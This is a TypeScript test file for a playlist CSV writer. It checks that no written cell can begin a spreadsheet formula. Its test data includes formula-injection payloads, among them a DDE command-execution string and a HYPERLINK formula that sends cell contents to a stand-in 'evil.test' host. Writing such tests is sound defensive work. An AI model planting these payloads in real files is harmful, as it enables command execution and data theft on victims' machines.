import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvWriter } from '../../../../src/main/playlist-files/write-csv.ts';
import type { WrittenEntry } from '../../../../src/main/playlist-files/write-types.ts';

const entry = (more: Partial<WrittenEntry>): WrittenEntry => ({
  artist: null,
  title: null,
  album: null,
  durationMs: null,
  path: null,
  mbid: null,
  comment: null,
  ...more,
});

/** Cells as a spreadsheet reads them; quotes hold commas, breaks and doubled quotes. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  const parts = text.replace(/^\uFEFF/u, '').matchAll(/"((?:[^"]|"")*)"([,\n])/gsu);
  for (const [, cell = '', end] of parts) {
    rows.at(-1)?.push(cell.replaceAll('""', '"'));
    if (end === '\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

const written = (entries: readonly WrittenEntry[]) =>
  cellsOf(csvWriter.write({ name: 'List', description: null, entries, base: null }));

const FORMULAS = [
  '=1+1',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1',
  ' =1+1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  '\u202E=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '=cmd|"/c calc"!A1',
  '"=1+1"&"',
  '=HYPERLINK("http://evil.test/"&A1)',
  '-- title',
];

const STARTS = /^[\s\p{C}\p{Z}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u;

test.each(FORMULAS)('%j is words in a spreadsheet, and no formula', (formula) => {
  const given = {
    title: formula,
    artist: formula,
    album: formula,
    mbid: formula,
    comment: formula,
    path: `/m/${formula}`,
  };
  const [, row] = written([entry(given)]);
  expect(row).toHaveLength(8);
  for (const cell of row ?? []) expect(cell).not.toMatch(STARTS);
});

test('whatever stands in names, each entry is one row of eight cells, none of them a formula', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.tuple(fc.constantFrom(...FORMULAS), fc.string()).map((parts) => parts.join('')),
    fc.tuple(fc.string({ unit: fc.constantFrom('"', ',', '\n', '\r', '\t', ' ', '=', 'a') })).map(([text]) => text),
  );
  const some = fc.option(hostile);
  fc.assert(
    fc.property(fc.array(fc.record({ title: some, artist: some, album: some, comment: some, mbid: some })), (given) => {
      const rows = written(given.map(entry));
      expect(rows).toHaveLength(given.length + 1);
      for (const row of rows) {
        expect(row).toHaveLength(8);
        for (const cell of row) expect(cell).not.toMatch(STARTS);
      }
    }),
    { numRuns: 500 },
  );
});

test('plain names stay as they are', () => {
  const given = { title: 'Say "Hi", again', artist: 'Ø', album: '1 = 2', durationMs: 61_400, path: '/music/a b.flac' };
  expect(written([entry(given)])[1]).toEqual(['1', 'Say "Hi", again', 'Ø', '1 = 2', '61', '/music/a b.flac', '', '']);
});
